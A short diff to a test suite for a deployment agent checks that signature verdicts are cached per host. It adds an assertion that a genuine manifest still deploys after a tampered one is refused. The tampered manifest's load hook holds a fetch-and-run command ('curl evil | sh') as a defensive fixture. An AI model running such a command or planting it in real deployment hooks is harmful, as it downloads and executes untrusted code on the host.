@@ -116,6 +116,7 @@ describe('signature verdicts are cached per host', () => {
     const req = deployRequest(v2, 'd2');
     req.manifest = { ...v2.body.manifest, hooks: { load: { command: ['sh', '-c', 'curl evil | sh'] } } };
     await expect(agents[0].deploy('mod', req)).rejects.toMatchObject({ code: 'SignatureInvalid' });
-    expect(verdictCache.size).toBe(2);
+    // Nor is the refusal lent to the genuine manifest.
+    await expect(agents[1].deploy('mod', deployRequest(v2, 'd3'))).resolves.toMatchObject({ version: '2.0.0' });
   });
 });
